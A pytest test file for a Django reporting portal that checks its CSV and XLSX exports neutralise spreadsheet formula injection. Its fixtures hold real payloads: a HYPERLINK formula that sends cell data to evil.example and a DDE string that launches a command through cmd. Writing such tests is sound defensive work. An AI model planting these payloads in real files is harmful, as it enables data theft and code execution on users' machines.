"""Formula injection: every CSV and XLSX the portal writes, opened as a
spreadsheet program would (csv, openpyxl), holds hostile text as text that a
spreadsheet will not run, and keeps numbers and dates typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.forms import BooleanField
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import ValueStatus
from leanedu.spreadsheets import FORMATS, FORMULA_TRIGGERS, SafeCSV, SafeXLSX, csv_cell, is_formula_like
from projects.models import ProjectStatus
from tests.documents.factories import DocumentFactory
from tests.indicators.factories import IndicatorFactory, TargetFactory, ValueFactory, period, quarter
from tests.projects.factories import ReadyProjectFactory, TeamMemberFactory
from tests.proposals.factories import ProposalFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+1", "-1+1", "@SUM(1)"]
CMD = "=cmd|' /C calc'!A0"
TAB, CR = "\t=1+1", "\r=1+1"


def test_the_helper_neutralises_every_trigger_and_leaves_numbers():
    for text in [*HOSTILE, CMD, TAB, CR]:
        assert is_formula_like(text)
        assert csv_cell(text) == "'" + text
    for plain in ["-5", "-1,5", "+7", "-1 234,50", "1e5", "Отчёт", "", "а-1+1"]:
        assert csv_cell(plain) == plain
    for value in [Decimal("-1.5"), -3, dt.date(2025, 1, 1), None]:
        assert csv_cell(value) == value


def assert_csv_safe(rows):
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_TRIGGERS) and is_formula_like(cell)), cell


def assert_xlsx_safe(sheet):
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type)


def cells(sheet) -> list:
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile_values(school_a, municipality):
    """Four values of school A whose comments are the four attacks, and a
    negative number; an indicator named like a command."""
    Period_year = period("year", 2025)
    indicator = IndicatorFactory(code="X-1", name=CMD)
    TargetFactory(indicator=indicator, period=Period_year, organization=school_a, value=10, baseline_value=2)
    values = []
    for n, comment in enumerate(HOSTILE, start=1):
        values.append(
            ValueFactory(
                indicator=IndicatorFactory(code=f"X-{n + 1}", name=f"Показатель {n}"),
                organization=school_a,
                period=quarter(2025, 1),
                value=Decimal("1.5") if n == 1 else Decimal(n),
                status=ValueStatus.APPROVED,
                comment=comment,
            )
        )
    values.append(ValueFactory(indicator=indicator, organization=school_a, period=quarter(2025, 2), value=7))
    return Period_year


def download(client, name, **params) -> bytes:
    response = client.get(reverse(f"reports:{name}"), params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_reports_csv_neutralises_formulas_and_keeps_numbers(client, official, hostile_values):
    client.force_login(official)
    content = download(client, "values_csv", period=hostile_values.pk)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert_csv_safe(rows)
    comments = {row[11] for row in rows[1:]}
    assert {"'" + text for text in HOSTILE} <= comments
    assert "'" + CMD in {row[4] for row in rows}
    assert "1,50" in {row[9] for row in rows}


def test_reports_xlsx_hold_text_as_strings_and_numbers_typed(client, official, hostile_values):
    client.force_login(official)
    sheet = load_workbook(io.BytesIO(download(client, "values_xlsx", period=hostile_values.pk))).active
    assert_xlsx_safe(sheet)
    by_value = {cell.value: cell for cell in cells(sheet)}
    for text in [*HOSTILE, CMD]:
        assert by_value[text].data_type == "s"
    assert by_value[1.5].data_type == "n"
    official_book = load_workbook(io.BytesIO(download(client, "official_xlsx", period=hostile_values.pk)))
    for sheet in official_book.worksheets:
        assert_xlsx_safe(sheet)


def export_formats(client, url) -> dict:
    form = client.get(url).context["form"]
    return {label: value for value, label in form.fields["format"].choices if label != "---"}


def admin_export(client, url, label):
    form = client.get(url).context["form"]
    choices = {lbl: value for value, lbl in form.fields["format"].choices}
    data = {"format": str(choices[label]), "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)})
    response = client.post(url, data)
    assert response.status_code == 200 and "html" not in response["Content-Type"], response.content[:500]
    return response.content


def read(content: bytes, label: str):
    if label == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert_csv_safe(rows)
        return rows
    sheet = load_workbook(io.BytesIO(content)).active
    assert_xlsx_safe(sheet)
    return sheet


def test_admin_values_export(client, office_admin, hostile_values):
    client.force_login(office_admin)
    url = reverse("admin:indicators_value_export")
    rows = read(admin_export(client, url, "csv"), "csv")
    assert {"'" + text for text in HOSTILE} <= {cell for row in rows for cell in row}
    sheet = read(admin_export(client, url, "xlsx"), "xlsx")
    by_value = {cell.value: cell for cell in cells(sheet)}
    for text in HOSTILE:
        assert by_value[text].data_type == "s"
    assert by_value[1.5].data_type == "n" and by_value[7].data_type == "n"


def test_project_passport_xlsx_with_a_hostile_team_member(client, office, school_a):
    project = ReadyProjectFactory(
        organization=school_a, status=ProjectStatus.APPROVED, title="+1+1", planned_start=dt.date(2025, 9, 1)
    )
    project.team.all().delete()
    TeamMemberFactory(project=project, name=CMD, role="")
    client.force_login(office)
    sheet = read(admin_export(client, reverse("admin:projects_project_export"), "xlsx"), "xlsx")
    by_value = {cell.value: cell for cell in cells(sheet)}
    assert by_value["+1+1"].data_type == "s"
    assert by_value[CMD].data_type == "s"
    assert by_value[project.pk].data_type == "n"


def test_documents_export_csv_and_xlsx(client, office, municipality):
    DocumentFactory(authority=municipality, number="-1+1", title=HOSTILE[0], summary="@SUM(1)")
    client.force_login(office)
    url = reverse("admin:documents_document_export")
    rows = read(admin_export(client, url, "csv"), "csv")
    assert "'-1+1" in {cell for row in rows for cell in row}
    sheet = read(admin_export(client, url, "xlsx"), "xlsx")
    assert {HOSTILE[0], "-1+1"} <= {cell.value for cell in cells(sheet)}


def test_proposals_export(client, office, school_a):
    school_a.short_name = "@SUM(1)"
    school_a.save()
    ProposalFactory(organization=school_a)
    client.force_login(office)
    url = reverse("admin:proposals_proposal_export")
    rows = read(admin_export(client, url, "csv"), "csv")
    assert "'@SUM(1)" in {cell for row in rows for cell in row}
    sheet = read(admin_export(client, url, "xlsx"), "xlsx")
    assert "@SUM(1)" in {cell.value for cell in cells(sheet)}


def test_every_admin_export_and_import_uses_the_safe_formats(rf, office_admin, school_a):
    """No admin may fall back to a stock format that writes formulas."""
    request = rf.get("/admin/")
    request.user = office_admin
    checked = 0
    for model_admin in admin.site._registry.values():
        for getter in ("get_export_formats", "get_import_formats"):
            if hasattr(model_admin, getter):
                formats = getattr(model_admin, getter)()
                assert formats and all(f in (SafeCSV, SafeXLSX) for f in formats), (model_admin, formats)
                checked += 1
    assert checked >= 8
    assert FORMATS == [SafeCSV, SafeXLSX]


def test_every_stock_admin_export_is_safe(client, office_admin, school_a):
    """Organisations, indicators, targets, document kinds, tags: each export in
    each format, with an organisation whose name is a command."""
    school_a.short_name = CMD
    school_a.save()
    TargetFactory(indicator=IndicatorFactory(code="=1+1", name="-1+1"), organization=school_a)
    client.force_login(office_admin)
    for model_admin in admin.site._registry.values():
        if not hasattr(model_admin, "get_export_formats"):
            continue
        opts = model_admin.opts
        url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
        if client.get(url).status_code != 200:
            continue
        for label in export_formats(client, url):
            read(admin_export(client, url, label), label)
